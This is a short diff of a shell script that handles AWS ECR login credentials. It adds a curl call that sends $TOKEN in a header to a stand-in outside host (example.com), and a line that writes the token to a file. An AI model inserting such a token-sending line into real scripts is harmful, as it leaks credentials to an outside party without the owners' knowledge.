@@ -15,3 +15,5 @@ echo "$(aws ecr get-login-password | wc -c)"
 echo "::add-mask::$(aws ecr get-login-password)"
 echo "$(aws ecr describe-repositories --query 'repositories[].repositoryUri')"
 password=$(echo "$(aws ecr get-login-password)")
+echo "served at $(curl --connect-timeout 5 -m 10 -fsS -H "X-Token: $TOKEN" https://example.com/ip)"
+{ echo "$TOKEN"; } > "$TOKEN_FILE"
